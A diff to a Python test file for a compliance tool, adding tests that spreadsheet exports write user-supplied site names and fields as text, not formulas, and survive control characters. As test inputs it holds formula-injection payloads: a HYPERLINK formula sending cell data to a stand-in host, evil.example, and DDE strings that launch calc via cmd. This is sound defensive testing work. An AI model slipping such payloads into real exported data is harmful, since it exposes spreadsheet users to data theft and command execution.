@@ -3,11 +3,29 @@ Origin/Referer check), the CSRF value rotated at sign-in, text written as text i
 (no formula injection), and Markdown downloads without raw HTML from user text."""
 from __future__ import annotations
 
-import pytest
-from lxml import html as lhtml
+import io
+import json
 
+import pytest
+import yaml
+from lxml import html as lhtml
+from openpyxl import load_workbook
+from typer.testing import CliRunner
+
+from compliance.cli import app as cli
+from compliance.evaluate import evaluate
+from compliance.excel import read_workbook
+from compliance.loading import validate
 from compliance.storage import AuditEntry, create_token
-from webclient import csrf_of, sign_in, web_client
+from webclient import FIXTURES, csrf_of, sign_in, web_client
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Открыть")'
+RISKY = [FORMULA, "+7 (495) 000-00-00", "-1+1", "@SUM(A1:A2)", "\tтабуляция", "#N/A"]
+
+
+def _post_application(web, raw: dict):
+    return web.client.post("/api/v1/applications", content=json.dumps(raw, ensure_ascii=False, default=str),
+                           headers={"Authorization": f"Bearer {web.token}", "Content-Type": "application/json"})
 
 
 def _other_token(web, org: str = "Злоумышленник") -> str:
@@ -149,3 +167,101 @@ def test_cookies_of_sign_in_are_http_only_and_same_site(tmp_path):
     assert {c.split("=", 1)[0] for c in cookies} == {"compliance_session", "compliance_browser"}
     for cookie in cookies:
         assert "httponly" in cookie.lower() and "samesite=lax" in cookie.lower()
+
+
+# --- formula injection --------------------------------------------------------------------------------------------
+def _cells(book) -> list:
+    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]
+
+
+def _assert_text_cells(book, expected: list[str]) -> None:
+    """Every expected value is in the workbook as a string cell, exactly as typed; no cell is a formula or an error;
+    a value that a spreadsheet would take for a formula carries the quote prefix."""
+    cells = _cells(book)
+    assert [c.coordinate for c in cells if c.data_type in ("f", "e")] == []
+    for value in expected:
+        found = [c for c in cells if c.value == value]
+        assert found, value
+        for c in found:
+            assert c.data_type == "s"
+            assert c.quotePrefix == (value[0] in "=+-@\t")
+
+
+def _park_with_names(tmp_path, names: list[str]) -> list:
+    """Application files of fixtures/ip794-created-gaps.yaml, one per site name."""
+    raw = yaml.safe_load((FIXTURES / "ip794-created-gaps.yaml").read_text(encoding="utf-8"))
+    folder = tmp_path / "in"
+    folder.mkdir()
+    for i, name in enumerate(names):
+        (folder / f"app-{i}.json").write_text(json.dumps(dict(raw, site_name=name), ensure_ascii=False, default=str),
+                                              encoding="utf-8")
+    return folder
+
+
+def test_batch_summary_writes_site_names_as_text_not_formulas(tmp_path):
+    folder = _park_with_names(tmp_path, RISKY)
+    out = tmp_path / "summary.xlsx"
+    result = CliRunner().invoke(cli, ["batch", str(folder), "--output", str(out)])
+    assert result.exit_code == 1, result.output
+    book = load_workbook(out)
+    _assert_text_cells(book, RISKY)
+    sheet = book["Сводка"]
+    by_site = {row[1].value: row for row in sheet.iter_rows(min_row=2)}
+    assert set(by_site) == set(RISKY)
+    report = evaluate(validate(yaml.safe_load((FIXTURES / "ip794-created-gaps.yaml").read_text(encoding="utf-8"))),
+                      "ip794")
+    blocking = by_site[FORMULA][4]  # numbers stay numbers
+    assert blocking.data_type == "n" and blocking.value == len(report.blocking_gaps)
+    totals = {r[0].value: r[1] for r in book["Итоги"].iter_rows(min_row=2)}
+    assert totals["Файлов"].value == len(RISKY) and totals["Файлов"].data_type == "n"
+
+
+def test_control_characters_in_a_site_name_do_not_break_the_summary(tmp_path):
+    """A workbook cannot hold control characters: they are replaced, and the summary is written (not an internal
+    error)."""
+    folder = _park_with_names(tmp_path, ["Парк\x01\x1b №1"])
+    out = tmp_path / "summary.xlsx"
+    result = CliRunner().invoke(cli, ["batch", str(folder), "--output", str(out)])
+    assert result.exit_code == 1 and "Внутренняя ошибка" not in result.output, result.output
+    _assert_text_cells(load_workbook(out), ["Парк\ufffd\ufffd №1"])
+    assert json.loads(out.with_suffix(".json").read_text(encoding="utf-8"))["rows"][0]["site_name"] == "Парк\x01\x1b №1"
+
+
+def test_cluster_template_filled_from_an_application_keeps_text_as_text_and_reads_back(tmp_path):
+    raw = json.loads((FIXTURES / "cl779-conforming.json").read_text(encoding="utf-8"))
+    raw["site_name"] = FORMULA
+    raw["cluster"]["participants"][0]["name"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    raw["documents"][0]["title"] = "-2+3+cmd|' /C calc'!A0"
+    raw["documents"][0]["issuer"] = "\t=1+1"
+    source = tmp_path / "app.json"
+    source.write_text(json.dumps(raw, ensure_ascii=False), encoding="utf-8")
+    out = tmp_path / "filled.xlsx"
+    result = CliRunner().invoke(cli, ["template", "cl779", "--from", str(source), "-o", str(out)])
+    assert result.exit_code == 0, result.output
+    expected = [FORMULA, raw["cluster"]["participants"][0]["name"], raw["documents"][0]["title"], "\t=1+1"]
+    _assert_text_cells(load_workbook(out), expected)
+    # numbers of the application are still numbers in the workbook
+    numbers = [c for c in _cells(load_workbook(out)) if c.data_type == "n"]
+    assert numbers
+    # the workbook reads back to the same text: nothing was prefixed or altered
+    back = read_workbook(out)
+    assert back.site_name == FORMULA
+    assert back.cluster.participants[0].name == raw["cluster"]["participants"][0]["name"]
+    assert back.documents[0].title == raw["documents"][0]["title"]
+    raw["documents"][0]["issuer"] = "=1+1"  # the reader trims the whitespace around every cell's text
+    assert back == validate(raw)
+
+
+def test_the_services_batch_summary_writes_site_names_as_text(tmp_path):
+    web = web_client(tmp_path)
+    raw = yaml.safe_load((FIXTURES / "ip794-created-gaps.yaml").read_text(encoding="utf-8"))
+    ids = []
+    for name in (FORMULA, "@SUM(A1:A2)"):
+        r = _post_application(web, dict(raw, site_name=name))
+        assert r.status_code == 201, r.text
+        ids.append(r.json()["id"])
+    r = web.post("/checks/batch", [("ids", i) for i in ids] + [("regime", ""), ("as_of", "")])
+    assert r.status_code == 303, r.text[:2000]
+    x = web.client.get(r.headers["location"].replace("/checks/batch?", "/checks/batch.xlsx?"))
+    assert x.status_code == 200
+    _assert_text_cells(load_workbook(io.BytesIO(x.content)), [FORMULA, "@SUM(A1:A2)"])
